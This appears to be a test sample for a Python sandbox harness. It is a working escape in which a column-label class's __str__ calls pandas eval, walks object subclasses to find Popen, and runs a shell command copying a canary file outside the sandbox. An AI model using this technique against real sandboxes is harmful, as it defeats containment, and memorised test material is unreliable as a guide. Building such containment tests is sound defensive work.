# class: class_def
# technique: a small class used as a column label: its __str__ (allowed) runs a subclass walk through DataFrame.eval when the harness calls str(c) in collect(), after the snippet returned (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)

u = "_" * 2



class Label:
    def __str__(self):
        classes = ev("@o[0]." + u + "subclasses" + u + "()", o=[object])
        popen_cls = [c for c in classes if str(c).endswith("Popen'>")][0]
        popen_cls(["sh", "-c", "cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-str"]).wait()
        return "value"

    def __hash__(self):
        return 7

    def __eq__(self, other):
        return self is other


df = pd.DataFrame({Label(): np.arange(3)})
